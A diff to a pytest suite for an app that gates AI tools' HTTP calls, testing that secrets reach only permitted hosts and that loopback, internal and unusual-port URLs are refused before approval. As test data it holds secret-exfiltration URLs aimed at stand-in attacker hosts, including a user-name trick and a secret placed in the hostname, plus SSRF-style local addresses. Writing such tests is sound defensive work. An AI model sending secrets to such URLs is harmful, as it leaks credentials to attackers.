@@ -65,7 +65,9 @@ async def app(api: Api, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[App]:
             {"tool": "rest_api_call", "tenant": "globex"},
         ],
     }
-    async with App.open(os.devnull, database_url="memory://", network={"allow": [host]}, secrets={"use": use}) as app:
+    async with App.open(
+        os.devnull, database_url="memory://", network={"allow": [host], "ports": [80, 443, 8443]}, secrets={"use": use}
+    ) as app:
         app.approvals.add_approver(lambda _request: True)
         yield app
 
@@ -358,16 +360,22 @@ async def test_a_secret_is_sent_in_place_of_its_reference_and_masked_in_the_answ
     [
         (GLOBEX, "TOKEN", "{api}"), (ACME, "ELSEWHERE", "{api}"), (GLOBEX, "ELSEWHERE", "{api}"),
         (ACME, "TOKEN", "https://evil.example.com/"), (ACME, "ELSEWHERE", "https://api.example.com.evil.example/"),
-        (ACME, "ELSEWHERE", "https://api.example.com@evil.example/"), (ACME, "ELSEWHERE", "https://{{{{secret:ELSEWHERE}}}}.evil.example/"),
+        (ACME, "ELSEWHERE", "https://{{{{secret:ELSEWHERE}}}}.evil.example/"),
         (ACME, "ELSEWHERE", "https://api.example.com:8443/"),
     ],
-    ids=["other tenant", "other host", "no host named", "evil", "suffix", "userinfo", "in the host", "other port"],
+    ids=["other tenant", "other host", "no host named", "evil", "suffix", "in the host", "other port"],
 )  # fmt: skip
 async def test_a_secret_goes_only_where_a_setting_says(app: App, api: Api, actor: Actor, name: str, url: str) -> None:
     arguments = {"url": url.format(api=api.url), "headers": {"X-Key": f"{{{{secret:{name}}}}}"}}
     error = failed(await app.invoke("rest_api_call", arguments, actor=actor), "PERMISSION_DENIED")
     assert error.details["setting"] == "secrets.use"
     assert api.asked == []
+
+
+async def test_a_secret_does_not_go_to_a_url_with_a_user_name(app: App) -> None:
+    arguments = {"url": "https://api.example.com@evil.example/", "headers": {"X-Key": "{{secret:ELSEWHERE}}"}}
+    error = failed(await app.invoke("rest_api_call", arguments, actor=ACME), "SECURITY_VIOLATION")
+    assert "user name" in error.message
 
 
 async def test_a_secret_is_not_sent_without_encryption(app: App, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -386,3 +394,41 @@ async def test_a_secret_can_stand_in_the_path(app: App, api: Api) -> None:
     outcome = await app.invoke("rest_api_call", {"url": f"{api.url}/bot-{{{{secret:TOKEN}}}}/send"}, actor=ACME)
     assert api.asked[0].path == "/bot-s3cret-t0ken-value/send"
     assert "s3cret" not in str(failed(outcome, "INVOCATION_ERROR"))
+
+
+# -- before a person is asked
+
+
+@pytest.mark.parametrize("tool", ["http_fetch", "rest_api_call"])
+@pytest.mark.parametrize(
+    ("url", "words"),
+    [
+        ("http://127.0.0.1:8776/", "network.allow: [127.0.0.1:8776]"), ("http://[::1]/", "network.allow: [[::1]:80]"),
+        ("http://localhost:8776/", "network.allow: [localhost:8776]"), ("http://10.0.0.7/", "network.allow: [10.0.0.7:80]"),
+        ("http://wiki.internal/", "network.allow: [wiki.internal:80]"), ("http://example.com:8776/", "network.ports"),
+        ("http://93.184.216.34:8776/", "network.ports"), ("ftp://example.com/", "http"),
+    ],
+)  # fmt: skip
+async def test_a_url_that_is_refused_as_it_is_written_is_not_asked_about(tool: str, url: str, words: str) -> None:
+    asked: list[Any] = []
+    async with App.open(os.devnull, database_url="memory://") as app:
+        app.approvals.add_approver(asked.append)
+        outcome = await app.invoke(tool, {"url": url})
+        assert outcome.error is not None and outcome.error.code in ("SECURITY_VIOLATION", "INVALID_INPUT"), outcome
+        assert words in outcome.error.message
+        assert ("network.ports" in outcome.error.message) == (words == "network.ports")
+        explained = await app.explain(tool, {"url": url})
+        assert (explained.verdict, explained.gates[-1].gate) == ("deny", "network") and words in explained.reason
+        assert (await app.explain(tool, {"url": "https://example.com/"})).verdict == "ask"
+    assert asked == []
+
+
+async def test_a_host_that_the_operator_allows_is_asked_about(app: App, api: Api) -> None:
+    assert (await app.explain("http_fetch", {"url": api.url})).verdict == "ask"
+
+
+async def test_a_refused_connection_is_told_with_its_port(app: App, api: Api) -> None:
+    assert api.at is not None
+    await api.at.stop()
+    error = failed(await app.invoke("http_fetch", {"url": api.url}), "CONNECTION_ERROR")
+    assert f"127.0.0.1:{api.at.port} cannot be reached" in error.message
